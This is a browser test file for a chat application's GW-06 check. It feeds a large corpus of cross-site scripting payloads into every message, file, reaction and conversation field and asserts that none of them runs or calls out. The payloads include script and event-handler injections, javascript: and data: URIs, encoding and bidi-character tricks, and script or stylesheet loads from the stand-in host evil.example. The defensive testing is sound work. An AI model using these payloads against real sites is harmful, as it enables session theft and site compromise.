/** GW-06: whatever a business, or a relay that makes things up, puts into any field is text: nothing runs, nothing is asked for, the policy has nothing to stop. */
import { expect, it } from 'vitest';
import { hostileOffers } from '../../dev/offers';
import { DESKTOP } from './browser';
import { visit } from './page';
import { stage } from './stage';

const on = stage();

const RUN = 'window.pwned=1';
/** Ways in which a page was made to run what was written into it. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${RUN}" />`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#106;avascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<marquee onstart=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<div style="background:url(https://evil.example/x)">`,
  `<xss id=x tabindex=1 onactivate=${RUN}></xss>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `https://user:pass@evil.example/`,
  `https://evil.example/"onmouseover="${RUN}`,
  `http://evil.example/'><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `{@html "<img src=x onerror=${RUN}>"}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `]]><script>${RUN}</script>`,
  `--><img src=x onerror=${RUN}>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `__proto__`,
  `constructor`,
];
/** How each is wrapped: what breaks out of attributes, what turns the direction, what cuts a text, what fills it. */
const WRAPS: ((vector: string) => string)[] = [
  (v) => v,
  (v) => `"${v}`,
  (v) => `'${v}`,
  (v) => `\`${v}`,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</textarea>${v}`,
  (v) => `</title>${v}`,
  (v) => `\u202e${v}`,
  (v) => `\u2066${v}\u2069`,
  (v) => `a\u0000${v}`,
  (v) => `\n\n${v}\n`,
  (v) => v.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned'),
  (v) => v.replaceAll('<', '<\u200b'),
  (v) => `https://ok.example/${v}`,
  (v) => `${'x'.repeat(300)}${v}`,
  (v) => `*${v}* _${v}_ ~${v}~`,
];
const CORPUS = VECTORS.flatMap((vector) => WRAPS.map((wrap) => wrap(vector)));

/** Every field of a message that another side fills. */
const FIELDS: ((payload: string) => object)[] = [
  (text) => ({ text }),
  (name) => ({ shown: { kind: 'file', file: { name, mediaType: 'application/pdf', size: 1, caption: '', preview: null, expires: 0 } } }),
  (mediaType) => ({ shown: { kind: 'file', file: { name: 'a.pdf', mediaType, size: 1, caption: '', preview: null, expires: 0 } } }),
  (caption) => ({ shown: { kind: 'file', file: { name: 'a.png', mediaType: 'image/png', size: 1, caption, preview: null, expires: 0 } } }),
  (contentType) => ({ shown: { kind: 'unsupported', contentType } }),
  (emoji) => ({ text: 'with a reaction', reactions: [{ own: false, emoji }] }),
  (by) => ({ text: 'said elsewhere', own: true, by }),
  ...hostileOffers('').map((_, n) => (text: string) => ({ shown: hostileOffers(text)[n] })),
];
/** Payloads whose messages are all in the page at once: older ones are not drawn. */
const AT_ONCE = 6;

/** A page over the scripted engine, as code in it sees it. */
interface Scripted {
  engine: { receive(line: object): void; say(event: object): void };
  pwned?: number;
}

const chunks = (size: number) => Array.from({ length: Math.ceil(CORPUS.length / size) }, (_, n) => CORPUS.slice(n * size, (n + 1) * size));

it(`runs none of ${CORPUS.length * FIELDS.length} payloads in any field of a message`, { timeout: 240_000 }, async () => {
  const { page, complaints, close } = await visit(on.browser, on.url('chat'), { viewport: DESKTOP });
  const asked: string[] = [];
  page.on('request', (request) => !request.url().startsWith(on.origin) && !request.url().startsWith('blob:') && asked.push(request.url()));
  page.on('dialog', (dialog) => (asked.push(dialog.message()), void dialog.dismiss()));
  for (const [n, chunk] of chunks(AT_ONCE).entries()) {
    const end = `end of ${n}`;
    const lines = [...chunk.flatMap((payload) => FIELDS.map((field) => field(payload))), { text: end }];
    const seen = await page.evaluate(
      async ([lines, end]) => {
        const scripted = globalThis as unknown as Scripted;
        for (const line of lines) scripted.engine.receive(line);
        while (!document.querySelector('main')?.textContent?.includes(end)) await new Promise(requestAnimationFrame);
        const never = 'script, iframe, object, embed, base, meta, link, style, [srcdoc], [style*="url("]';
        const runs = ({ name, value }: Attr) => name.startsWith('on') || /^\s*(javascript|data|vbscript):/i.test(value);
        const bad = [...document.querySelectorAll('main *')].filter((element) => element.matches(never) || [...element.attributes].some(runs));
        return { drawn: document.querySelectorAll('article').length, pwned: scripted.pwned, bad: bad.map((element) => element.outerHTML.slice(0, 200)), here: location.href };
      },
      [lines, end] as const,
    );
    expect(seen.drawn, 'what was said is there').toBeGreaterThanOrEqual(lines.length);
    expect({ ...seen, drawn: 0 }).toEqual({ drawn: 0, pwned: undefined, bad: [], here: page.url() });
  }
  expect(asked).toEqual([]);
  expect(complaints).toEqual([]);
  await close();
});

it('runs nothing that stands in the name of a business or of a reader, wherever these are shown', { timeout: 240_000 }, async () => {
  const { page, complaints, close } = await visit(on.browser, on.url('chat'), { viewport: DESKTOP });
  await page.getByRole('button', { name: 'What do they know about me?' }).first().click();
  await page.locator('dialog h3').first().waitFor();
  for (const chunk of chunks(50)) {
    const wrong = await page.evaluate(async (chunk) => {
      const scripted = globalThis as unknown as Scripted;
      const wrong: string[] = [];
      for (const payload of chunk) {
        const conversation = { id: 1, userId: 'ZZ.x', handle: 'cortado', lastHeardMs: 0, state: 'open', unread: 0, ownName: null, name: payload, readers: [{ name: payload, role: payload }], relay: payload, fingerprint: payload };
        scripted.engine.say({ type: 'conversation', conversation });
        await new Promise(requestAnimationFrame);
        const shown = document.querySelector('dialog .fingerprint')?.textContent ?? '';
        const made = document.querySelectorAll('dialog :is(script, iframe, object, embed, img, form, style, [onerror], [onload])').length;
        if (scripted.pwned || made || !shown) wrong.push(payload);
      }
      return wrong;
    }, chunk);
    expect(wrong).toEqual([]);
  }
  expect(complaints).toEqual([]);
  await close();
});
